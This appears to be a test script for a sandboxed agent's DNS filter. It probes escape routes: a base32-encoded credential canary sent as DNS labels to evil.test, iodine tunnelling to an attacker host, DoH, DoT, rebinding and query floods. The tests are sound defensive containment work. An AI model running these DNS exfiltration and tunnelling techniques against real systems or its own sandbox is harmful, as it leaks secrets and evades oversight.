#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# The escapes.md rows cage-dns answers (16, 17, 19-24, 27, 29, 100, 103) and issue 4's live
# allowlist reload, in the lab: the probes run inside the lab cage as the agent, from dig, glibc
# getaddrinfo (getent ahosts, python's socket.getaddrinfo) and tests/tools/dns_probe.py, which
# builds its own query bytes and sends them over UDP and TCP, IPv4 and IPv6, to any resolver
# address (the cage resolver, PUB4/PUB6, 9.9.9.9, 1.1.1.1, EVIL, a v4-mapped address): the
# kernel redirect must bring each of them to cage-dns. Each row is judged on the answer, the
# audit record (layer dns, event, decision, reason) and on what the fake internet saw: the lab's
# PUB resolvers log every query (/run/lab/dns.log) and must never see a denied name, nor any
# query type but A and AAAA; the sentinel must never see a nonce or a canary.
. "$(dirname "$0")/lib.sh"
DNSLOG=/run/lab/dns.log
PROBE=$TOP/tests/tools/dns_probe.py
PINS=${CAGECTL_BPF_ROOT:-/sys/fs/bpf/cagectl}/lab
T=$(mktemp -d /tmp/dns-rows.XXXXXX)
ALL_N=
LOOP_PID=
cleanup() {
	[ -n "$LOOP_PID" ] && kill "$LOOP_PID" 2>/dev/null && wait "$LOOP_PID" 2>/dev/null
	rm -rf "$T"
}
lab_start
trap 'cleanup; lab_stop' EXIT
# What the agent knows (escapes.md §0): RES, PUB4, PUB6, EVIL4, EVIL6, CANARY_GH, …
. /run/lab/env.sh

in_cage() { "$LAB" cage-exec sh -c ". /run/lab/env.sh; $1"; }
# The script goes in on stdin: the agent cannot read the checkout (a clone in a 0700 directory).
raw() { "$LAB" cage-exec /usr/bin/python3 - "$@" < "$PROBE"; }
mark() { wc -l <"$AUDIT"; }
# events MARK FIXED-STRING…: audit lines since MARK that contain every string
events() {
	local m=$1 p lines
	shift
	lines=$(tail -n +"$((m + 1))" "$AUDIT")
	for p; do lines=$(grep -F -- "$p" <<<"$lines"); done
	[ -n "$lines" ] && wc -l <<<"$lines" || echo 0
}
# all_rcode DESC OUTPUT RCODE [ANSWER]: every dns_probe line has that rcode (and that answer)
all_rcode() {
	local bad
	bad=$(awk -v w="$3" -v a="${4:-}" '$3 != w || (a != "" && $4 != a)' <<<"$2")
	if [ -n "$2" ] && [ -z "$bad" ]; then ok "$1 ($(wc -l <<<"$2") queries)"
	else not_ok "$1: $(head -3 <<<"$bad" | tr '\n' ';')"; fi
}
dig_status() { in_cage "dig +time=2 +tries=1 $1" | sed -n 's/.*status: \([A-Z]*\).*/\1/p' | paste -sd' '; }
# The loggers write asynchronously: give them a moment before judging absence.
upstream_clean() {
	sleep 0.3
	if grep 'query\[' "$DNSLOG" | grep -qiF -- "$2"; then not_ok "$1: the PUB resolvers saw '$2'"
	else ok "$1: the PUB resolvers received nothing"; fi
	if grep -qiF -- "$2" "$SENTINEL"; then not_ok "$1: the sentinel saw '$2'"; else ok "$1: sentinel clean"; fi
}
dns_pid() { "$LAB" exec "$CAGECTL" show lab --json | python3 -c 'import json,sys
print([d["pid"] for d in json.load(sys.stdin)["daemons"] if d["name"] == "cage-dns"][0])'; }

RES6=$(in_cage "awk '/^nameserver .*:/{print \$2; exit}' /etc/resolv.conf")
# Every resolver address an agent might name; the redirect must make them all cage-dns.
ANY="$RES,$RES6,$PUB4,$PUB6,9.9.9.9,1.1.1.1,2620:fe::fe,$EVIL4,$EVIL6,::ffff:9.9.9.9"
check "dig, kdig, getent and python3 are in the cage's view" in_cage \
	'command -v dig && command -v kdig && command -v getent && [ -x /usr/bin/python3 ]'
like "the cage's resolver has an IPv6 address too" "$RES6" ':'
START=$(date +%s.%N)

# --- allowed names over every path (the control: denials below are not a broken resolver) --
out=$(raw query --proto both --server "$ANY" --type A api.allowed.test)
all_rcode "allowed A over UDP and TCP to every resolver address" "$out" NOERROR 198.51.100.10
out=$(raw query --proto both --server "$ANY" --type AAAA api.allowed.test)
all_rcode "allowed AAAA over UDP and TCP to every resolver address" "$out" NOERROR 2001:db8:51::10
is "dig A" "$(in_cage 'dig +short +time=2 +tries=1 api.allowed.test')" 198.51.100.10
is "dig +tcp AAAA from the IPv6 resolver" "$(in_cage "dig +short +tcp +time=2 +tries=1 @$RES6 api.allowed.test AAAA")" 2001:db8:51::10
gai=$(in_cage 'for o in "" use-vc; do RES_OPTIONS="$o" getent ahosts api.allowed.test | awk "{print \$1}" | sort -u | paste -sd" "; done')
is "getaddrinfo (getent ahosts) over UDP and TCP: both families" "$gai" "$(printf '198.51.100.10 2001:db8:51::10\n198.51.100.10 2001:db8:51::10')"
is "python socket.getaddrinfo" "$(in_cage "python3 -c 'import socket;print(sorted({a[4][0] for a in socket.getaddrinfo(\"api.allowed.test\",443)}))'")" \
	"['198.51.100.10', '2001:db8:51::10']"
is "0x20 spelling resolves" "$(in_cage 'dig +short +time=2 +tries=1 aPi.AlLoWeD.tEsT')" 198.51.100.10

# --- row 16: a non-allowlisted name --------------------------------------------------------
n=$(nonce 16); ALL_N="$ALL_N $n"; m=$(mark)
is "row 16: dig A → NXDOMAIN" "$(dig_status "@$RES $n.evil.test A")" NXDOMAIN
is "row 16: dig AAAA → NXDOMAIN" "$(dig_status "@$RES $n.evil.test AAAA")" NXDOMAIN
is "row 16: dig +tcp AAAA at the IPv6 resolver → NXDOMAIN" "$(dig_status "+tcp @$RES6 $n.evil.test AAAA")" NXDOMAIN
out=$(raw query --proto both --server "$ANY" --type A "$n.evil.test")
all_rcode "row 16: raw A, UDP and TCP, 10 resolver addresses (v4, v6, v4-mapped) → NXDOMAIN" "$out" NXDOMAIN
out=$(raw query --proto both --server "$ANY" --type AAAA "$n.evil.test")
all_rcode "row 16: raw AAAA, UDP and TCP, 10 resolver addresses → NXDOMAIN" "$out" NXDOMAIN
is "row 16: one dns.denied not_allowed NXDOMAIN record per query (43)" \
	"$(events "$m" '"layer":"dns"' '"event":"dns.denied","decision":"deny","reason":"not_allowed"' "\"qname\":\"$n.evil.test\"" '"answer":"NXDOMAIN"')" 43
is "row 16: none of them allowed" "$(events "$m" "$n" '"decision":"allow')" 0
# glibc picks the server: `rotate` starts at a random one of the two (v4, v6) per lookup,
# `use-vc` switches to TCP; 12 lookups each make missing a combination a 1-in-2000 event.
gai=$(in_cage "for i in \$(seq 12); do for o in rotate 'rotate use-vc'; do RES_OPTIONS=\"\$o\" getent ahosts $n-g\$i.evil.test; echo rc=\$?; done; done" | sort | uniq -c | awk '{print $2}')
is "row 16: getaddrinfo of a denied name fails (24 lookups, exit 2)" "$gai" rc=2
is "row 16: python getaddrinfo → EAI_NONAME" "$(in_cage "python3 -c 'import socket
try: socket.getaddrinfo(\"$n-py.evil.test\",443); print(\"resolved\")
except socket.gaierror as e: print(e.errno)'")" -2
combos=$(tail -n +"$((m + 1))" "$AUDIT" | grep -F "\"qname\":\"$n-g" | grep -o '"proto":"[a-z]*","client":"[^"]*"' |
	sed -e 's/"client":"[^"]*:[^"]*"/v6/' -e 's/"client":"[^"]*"/v4/' -e 's/"proto":"\([a-z]*\)",/\1-/' | sort -u | paste -sd' ')
is "row 16: getaddrinfo reached cage-dns over UDP and TCP, IPv4 and IPv6" "$combos" "tcp-v4 tcp-v6 udp-v4 udp-v6"
upstream_clean "row 16" "$n"

# --- row 17: a tunnel-style long label under an attacker zone ----------------------------------
n=$(nonce 17); ALL_N="$ALL_N $n"; m=$(mark)
lbl=$(printf %s "$CANARY_GH" | base32 -w0 | tr -d = | tr A-Z a-z | fold -w60 | paste -sd.)
is "row 17: dig TXT <base32 canary>.N.evil.test → NXDOMAIN" "$(dig_status "@$RES TXT $lbl.$n.evil.test")" NXDOMAIN
out=$(raw query --proto both --server "$RES6,$PUB4,$PUB6" --type NULL "$lbl.$n.evil.test")
all_rcode "row 17: the same as NULL, raw, UDP and TCP, v4 and v6 → NXDOMAIN" "$out" NXDOMAIN
is "row 17: dns.denied not_allowed for each (7)" "$(events "$m" '"event":"dns.denied"' '"reason":"not_allowed"' "$n.evil.test")" 7
is "row 17: dns.exfil_suspect label_long, decision deny, for each (7)" \
	"$(events "$m" '"layer":"dns","event":"dns.exfil_suspect","decision":"deny"' '"reason":"label_long"' "$n")" 7
upstream_clean "row 17" "$n"
upstream_clean "row 17 (the encoded canary)" "${lbl%%.*}"

# --- row 19: record types other than A/AAAA, for an allowed name ----------------------------
m=$(mark)
st=$(for t in TXT NULL ANY MX SRV CNAME; do dig_status "@$RES api.allowed.test $t"; done | paste -sd' ')
is "row 19: dig TXT NULL ANY MX SRV CNAME → REFUSED" "$st" "REFUSED REFUSED REFUSED REFUSED REFUSED REFUSED"
like "row 19: dig AXFR → transfer failed" "$(in_cage "dig +time=2 +tries=1 @$RES api.allowed.test AXFR")" 'Transfer failed'
n19=0
for t in TXT NULL ANY MX SRV CNAME AXFR IXFR HTTPS SVCB CAA NS SOA PTR DNSKEY TYPE65399; do
	out=$(raw query --proto both --server "$RES,$RES6,$PUB4" --type $t api.allowed.test)
	all_rcode "row 19: raw $t, UDP and TCP, v4 and v6, cage and public resolver → REFUSED" "$out" REFUSED
	n19=$((n19 + 6))
done
# Other spellings of the same name and of allowed names: case, trailing dot, wildcard member.
for q in "API.ALLOWED.TEST. TXT" "aPi.allowed.test MX" "x.wild.allowed.test TXT" "echo.allowed.test ANY" "api.allowed.test CNAME"; do
	out=$(raw query --proto both --server "$PUB6" --type "${q#* }" "${q% *}")
	all_rcode "row 19: raw '$q' → REFUSED" "$out" REFUSED
	n19=$((n19 + 2))
done
is "row 19: one dns.qtype_denied REFUSED record per query ($((n19 + 7)))" \
	"$(events "$m" '"layer":"dns","event":"dns.qtype_denied","decision":"deny","reason":"qtype_denied"' '"answer":"REFUSED"')" $((n19 + 7))
out=$(raw query --proto both --server "$RES" --class CH --type TXT version.bind)
all_rcode "row 19: class CH → REFUSED" "$out" REFUSED
out=$(raw query --proto udp --server "$RES" --class ANY --type A api.allowed.test)
all_rcode "row 19: class ANY → REFUSED" "$out" REFUSED
is "row 19: classes audited as qclass_denied" "$(events "$m" '"reason":"qclass_denied"')" 3
sleep 0.3
is "row 19: the PUB resolvers never received a query type other than A/AAAA" \
	"$(grep 'query\[' "$DNSLOG" | grep -cvE 'query\[(A|AAAA)\] ')" 0

# --- row 20: iodine ------------------------------------------------------------------------
n=$(nonce 20); ALL_N="$ALL_N $n"; m=$(mark)
out=$(in_cage "timeout 30 iodine -f -P $n \$RES t.evil.test 2>&1; echo rc=\$?; timeout 15 iodine -f -P x \$EVIL4 t.evil.test 2>&1; echo rc=\$?")
like "row 20: iodine cannot even start as the agent (no root, no tun)" "$out" 'rc=[1-9].*rc=[1-9]'
# Its handshake on the wire, so the row does not pass only because iodine needs root: the
# version probe (v + base32), a login and data queries, in each type iodine tries.
out=$(for t in NULL PRIVATE TXT SRV MX CNAME A AAAA; do
	for q in "vaaaakar$n" "l${n}aaaa" "p0ab${n}cd" "0aabb$n"; do
		raw query --proto udp --server "$RES,$EVIL4" --type $t "$q.t.evil.test"
	done
done)
all_rcode "row 20: iodine's handshake in NULL PRIVATE TXT SRV MX CNAME A AAAA, to RES and EVIL4 → NXDOMAIN" "$out" NXDOMAIN
got=$(events "$m" '"event":"dns.denied"' 't.evil.test')
[ "$got" -ge 1 ] && [ "$got" -le 64 ] && ok "row 20: audited ($got dns.denied lines for 64 queries)" || not_ok "row 20: $got audit lines"
upstream_clean "row 20" "$n"
upstream_clean "row 20 (the tunnel zone)" "t.evil.test"

# --- row 21: DNS over TCP to the cage resolver -------------------------------------------------
n=$(nonce 21); ALL_N="$ALL_N $n"; m=$(mark)
is "row 21: dig +tcp → NXDOMAIN" "$(dig_status "+tcp @$RES $n.evil.test")" NXDOMAIN
is "row 21: dig +tcp over IPv6 → NXDOMAIN" "$(dig_status "+tcp @$RES6 $n.evil.test AAAA")" NXDOMAIN
is "row 21: audited with proto tcp" "$(events "$m" '"reason":"not_allowed"' "$n" '"proto":"tcp"')" 2
upstream_clean "row 21" "$n"

# --- row 22: a hard-coded external resolver --------------------------------------------------
n=$(nonce 22); ALL_N="$ALL_N $n"; m=$(mark)
out=$(in_cage "dig +time=2 +tries=1 @\$PUB4 $n.evil.test; dig +tcp +time=2 +tries=1 @\$PUB4 $n.evil.test; dig +time=2 +tries=1 @\$PUB6 AAAA $n.evil.test")
is "row 22: dig @PUB4, +tcp @PUB4, @PUB6 AAAA → NXDOMAIN each" "$(sed -n 's/.*status: \([A-Z]*\).*/\1/p' <<<"$out" | paste -sd' ')" "NXDOMAIN NXDOMAIN NXDOMAIN"
is "row 22: dig sees the answers come from the server it named" \
	"$(grep -c -e "SERVER: $PUB4#53($PUB4) (UDP)" -e "SERVER: $PUB4#53($PUB4) (TCP)" -e "SERVER: $PUB6#53($PUB6) (UDP)" <<<"$out")" 3
refute "row 22: no 'reply from unexpected source'" grep -q unexpected <<<"$out"
is "row 22: redirected to cage-dns, same policy, audited (3)" "$(events "$m" '"event":"dns.denied"' '"reason":"not_allowed"' "$n")" 3
upstream_clean "row 22" "$n"

# --- row 23: DNS over TLS --------------------------------------------------------------------
n=$(nonce 23); ALL_N="$ALL_N $n"; m=$(mark)
out=$(in_cage "exec 2>&1; kdig +tls +timeout=2 +retry=0 @\$PUB4 $n.evil.test; echo rc=\$?; kdig +tls +timeout=2 +retry=0 -p 853 @\$EVIL4 $n.evil.test; echo rc=\$?; kdig +tls +timeout=2 +retry=0 @\$PUB6 $n.evil.test; echo rc=\$?")
is "row 23: kdig +tls to PUB4, EVIL4 and PUB6 fails" "$(grep -o 'rc=[0-9]*' <<<"$out" | paste -sd' ')" "rc=1 rc=1 rc=1"
sleep 0.3
got=$(events "$m" '"layer":"kernel"' '"reason":"tcp_port_denied"' '"dport":853')
[ "$got" -ge 3 ] && ok "row 23: tcp/853 refused at connect, audited ($got)" || not_ok "row 23: $got tcp_port_denied events for :853"
upstream_clean "row 23" "$n"

# --- row 24: DoH to a public resolver ----------------------------------------------------------
n=$(nonce 24); ALL_N="$ALL_N $n"; m=$(mark)
is "row 24: DoH JSON API at dns.google through the proxy → CONNECT 403" \
	"$(in_cage "curl -s -o /dev/null -m5 -w '%{http_connect}' 'https://dns.google/resolve?name=$n.evil.test'")" 403
is "row 24: --doh-url without the proxy: dns.google itself does not resolve (curl exit 6)" \
	"$(in_cage "curl -s -o /dev/null -m5 --noproxy '*' --doh-url https://dns.google/dns-query https://$n.evil.test/; echo \$?")" 6
check "row 24: proxy.connect_denied host=dns.google" test "$(events "$m" '"event":"proxy.connect_denied"' '"host":"dns.google"')" -ge 1
is "row 24: the DoH server's name does not resolve in the cage" "$(dig_status "@$RES6 dns.google")" NXDOMAIN
check "row 24: dns.denied for dns.google" test "$(events "$m" '"event":"dns.denied"' '"qname":"dns.google"')" -ge 1
upstream_clean "row 24" "$n"
upstream_clean "row 24 (no upstream lookup of dns.google)" "dns.google"

# --- row 27: rebinding: rebind.allowed.test is 127.0.0.1 and ::1 at the PUB resolvers ----------
n=$(nonce 27); ALL_N="$ALL_N $n"; m=$(mark)
is "row 27: dig rebind.allowed.test: no address" "$(in_cage "dig +short +time=2 +tries=1 @$RES rebind.allowed.test")" ""
out=$(raw query --proto both --server "$RES6,$PUB4" --type AAAA rebind.allowed.test)
all_rcode "row 27: raw AAAA over UDP and TCP: NOERROR without the ::1 record" "$out" NOERROR
is "row 27: no address in any answer" "$(awk 'NF > 3' <<<"$out")" ""
is "row 27: curl through the proxy fails" "$(in_cage "curl -s -o /dev/null -m5 -w '%{http_connect}' https://rebind.allowed.test/$n")" 502
is "row 27: curl without the proxy cannot resolve (exit 6)" "$(in_cage "curl -s -o /dev/null -m5 --noproxy '*' https://rebind.allowed.test/$n; echo \$?")" 6
check "row 27: dns.rebind_denied answer_not_public audited" \
	test "$(events "$m" '"layer":"dns","event":"dns.rebind_denied","decision":"drop","reason":"answer_not_public"' '"qname":"rebind.allowed.test"')" -ge 4
check "row 27: the proxy refused to dial (dns_no_public_answer)" \
	test "$(events "$m" '"layer":"proxy"' '"host":"rebind.allowed.test"' 'dns_no_public_answer')" -ge 1
is "row 27: dns_allow holds no loopback, private or link-local address" "$(bpftool map dump pinned "$PINS/dns_allow" | python3 -c '
import ipaddress, json, struct, sys
bad = []
for e in json.load(sys.stdin):
    k = e["key"]; ip = b"".join(struct.pack("<I", w) for w in k["ip"])
    a = ipaddress.ip_address(ip[:4] if k["family"] == 2 else ip)
    if not a.is_global and not a in ipaddress.ip_network("198.51.100.0/24") and not a in ipaddress.ip_network("2001:db8::/32"):
        bad.append(str(a))
print(" ".join(bad))')" ""
upstream_clean "row 27" "$n"

# --- row 29: canonical names --------------------------------------------------------------------
n=$(nonce 29); ALL_N="$ALL_N $n"; m=$(mark)
is "row 29: API.ALLOWED.TEST. resolves" "$(in_cage "dig +short +time=2 +tries=1 @$RES API.ALLOWED.TEST.")" 198.51.100.10
is "row 29: evilallowed.test → NXDOMAIN" "$(dig_status "@$RES evilallowed.test")" NXDOMAIN
is "row 29: api.allowed.test.N.evil.test → NXDOMAIN" "$(dig_status "@$RES api.allowed.test.$n.evil.test")" NXDOMAIN
q0=$(sleep 0.3; grep -c 'query\[' "$DNSLOG")
is "row 29: 'api\\.allowed.test' → NXDOMAIN" "$(dig_status "@$RES 'api\\.allowed.test'")" NXDOMAIN
for q in 'api\.allowed.test' 'api\000.allowed.test' 'api.allowed.test\000' 'api.allowed\.test' \
	"$n\\.api.allowed.test" '*.wild.allowed.test' 'a\032b.wild.allowed.test' 'api.allowed.test\046'; do
	out=$(raw query --proto both --server "$RES6,$PUB4" "$q")
	all_rcode "row 29: raw '$q' (an odd byte is never a label separator) → NXDOMAIN" "$out" NXDOMAIN
done
is "row 29: the odd-byte names never reached upstream" "$(sleep 0.3; grep -c 'query\[' "$DNSLOG")" "$q0"
for q in allowed.test evilallowed.test "xn--pi-7ld.allowed.test" "api-allowed.test" "$n-api.allowed.test"; do
	out=$(raw query --proto both --server "$RES,$PUB6" --type AAAA "$q")
	all_rcode "row 29: raw '$q' → NXDOMAIN" "$out" NXDOMAIN
done
out=$(raw query --proto both --server "$RES6,$PUB4" 'API.ALLOWED.TEST.')
all_rcode "row 29: raw API.ALLOWED.TEST. resolves over UDP and TCP" "$out" NOERROR 198.51.100.10
is "row 29: not_allowed audited (2 dig + 20 raw)" "$(events "$m" '"event":"dns.denied"' '"reason":"not_allowed"')" 22
is "row 29: odd bytes audited as name_odd_bytes (1 dig + 32 raw)" "$(events "$m" '"event":"dns.denied"' '"reason":"name_odd_bytes"')" 33
upstream_clean "row 29" "$n"
upstream_clean "row 29 (suffix over-match)" "evilallowed"
is "0x20: no query name with a capital letter ever reached the PUB resolvers" \
	"$(grep 'query\[' "$DNSLOG" | awk '{print $(NF-2)}' | grep -c '[A-Z]')" 0

# --- live allowlist reload (issue 4): domain add/rm during a query loop -----------------------
m=$(mark)
pid0=$(dns_pid)
"$LAB" cage-exec /usr/bin/python3 - loop --seconds 6 --interval 0.01 \
	--server "$RES,$RES6,$PUB4,$PUB6" api.allowed.test,reload.evil.test <"$PROBE" >"$T/loop.out" 2>&1 &
LOOP_PID=$!
sleep 1.5
check "cagectl domain add lab reload.evil.test" "$LAB" exec "$CAGECTL" -q domain add lab reload.evil.test
sleep 2
check "cagectl domain rm lab reload.evil.test" "$LAB" exec "$CAGECTL" -q domain rm lab reload.evil.test
wait "$LOOP_PID"; LOOP_PID=
sent=$(awk '/^sent/{print $2}' "$T/loop.out")
like "reload: the loop sent queries over UDP/TCP, v4/v6, 4 resolver addresses" "$sent" '^[0-9]{3,}$'
is "reload: no query lost, timed out or mismatched" "$(awk '/^lost/{print $2}' "$T/loop.out")" 0
is "reload: the allowed name answered NOERROR throughout" "$(awk '/^runs api/{$1=$2=""; print substr($0,3)}' "$T/loop.out")" NOERROR
is "reload: reload.evil.test went NXDOMAIN → NOERROR → NXDOMAIN" "$(awk '/^runs reload/{$1=$2=""; print substr($0,3)}' "$T/loop.out")" "NXDOMAIN NOERROR NXDOMAIN"
is "reload: while allowed it resolved to EVIL4 on every path" \
	"$(awk '$1 == "q" && $3 == "reload.evil.test" && $6 == "NOERROR" {print $7}' "$T/loop.out" | sort -u)" "$EVIL4"
is "reload: both reloads audited ok" "$(events "$m" '"layer":"dns","event":"dns.reload","decision":"ok"')" 2
is "reload: same cage-dns process" "$(dns_pid)" "$pid0"

# --- row 100: a query flood --------------------------------------------------------------------
n=$(nonce 100); ALL_N="$ALL_N $n"; m=$(mark)
# escapes.md uses 50000 names and -P 64; 4000 and -P 16 exceed the 200/s limit just the same.
t0=$(date +%s.%N)
in_cage "seq 4000 | sed 's/\$/.$n.evil.test/' | xargs -P 16 -n 250 dig @\$RES +tries=1 +time=1 >/dev/null"
out=$(raw flood --count 6000 --server "$RES6" "$n.evil.test")
t1=$(date +%s.%N)
refused=$(awk '/^rcode REFUSED/{print $3}' <<<"$out")
like "row 100: most of a 6000-query raw burst is REFUSED by the rate limit" "${refused:-0}" '^[1-9][0-9]{3}$'
sleep 1.2
got=$(events "$m" '"layer":"dns","event":"limit.dns_rate","decision":"refuse"' '"reason":"dns_rate"')
secs=$(echo "($t1 - $t0 + 2) / 1" | bc)
[ "$got" -ge 1 ] && [ "$got" -le "$((secs + 2))" ] && ok "row 100: limit.dns_rate aggregated ($got lines in ~${secs}s)" ||
	not_ok "row 100: $got limit.dns_rate lines in ~${secs}s"
added=$(($(mark) - m))
[ "$added" -lt 2500 ] && ok "row 100: 10000 queries added $added audit lines (bounded)" || not_ok "row 100: $added audit lines"
upstream_clean "row 100" "$n"
sleep 1
is "row 100: after the flood allowed names resolve again" "$(in_cage 'dig +short +time=2 +tries=1 api.allowed.test')" 198.51.100.10

# --- row 103: the resolver stopped ----------------------------------------------------------------
n=$(nonce 103); ALL_N="$ALL_N $n"
pid=$(dns_pid)
kill -STOP "$pid"
out=$(in_cage "dig +time=1 +tries=1 @\$RES api.allowed.test >/dev/null; echo dig=\$?; dig +time=1 +tries=1 @\$PUB4 $n.evil.test >/dev/null; echo pub=\$?; RES_OPTIONS='timeout:1 attempts:1' getent hosts api.allowed.test; echo getent=\$?; grep -v '^#' /etc/resolv.conf | grep -v '^options'")
kill -CONT "$pid"
like "row 103: dig to the stopped resolver times out (exit 9)" "$out" 'dig=9'
like "row 103: dig @PUB4 times out too: no way around it" "$out" 'pub=9'
like "row 103: getent hosts fails" "$out" 'getent=2'
is "row 103: resolv.conf lists only the cage resolver" "$(grep nameserver <<<"$out" | paste -sd' ')" "nameserver $RES nameserver $RES6"
upstream_clean "row 103" "$n"
is "row 103: after SIGCONT the resolver answers again" "$(in_cage 'dig +short +time=2 +tries=1 api.allowed.test')" 198.51.100.10

# --- the whole run --------------------------------------------------------------------------
is "the PUB resolvers only ever received A and AAAA queries" "$(grep 'query\[' "$DNSLOG" | grep -cvE 'query\[(A|AAAA)\] ')" 0
is "the PUB resolvers never saw a cage address (only lab-host's own)" \
	"$(grep 'query\[' "$DNSLOG" | grep -cE 'from (10\.200\.|fd00:200:)')" 0
refute "no un-NATed cage packet reached the fake internet" grep -q LEAK-UNNATED "$SENTINEL"
leaks=
for s in $ALL_N "$CANARY_GH" "$CANARY_AWS" "$CANARY_RAND"; do
	grep -qF -- "$s" "$SENTINEL" "$DNSLOG" && leaks="$leaks $s"
done
is "no nonce or canary in the sentinel or the PUB query log" "$leaks" ""
is "every dns audit record has ts, cage, layer, event, decision and (queries) reason, qname, qtype, proto, client" "$(python3 - "$AUDIT" <<-'P'
	import json, sys
	bad = 0
	for line in open(sys.argv[1]):
	    r = json.loads(line)
	    if r.get("layer") != "dns":
	        continue
	    need = ["ts", "cage", "layer", "event", "decision"]
	    if r["event"] in ("dns.denied", "dns.qtype_denied", "dns.allowed") and r.get("reason") != "malformed":
	        need += ["reason", "qname", "qtype", "proto", "client"]
	    bad += any(k not in r for k in need) or r["cage"] != "lab"
	print(bad)
	P
)" 0
diag "dns rows: $(echo "$(date +%s.%N) - $START" | bc) s in the lab"
done_testing
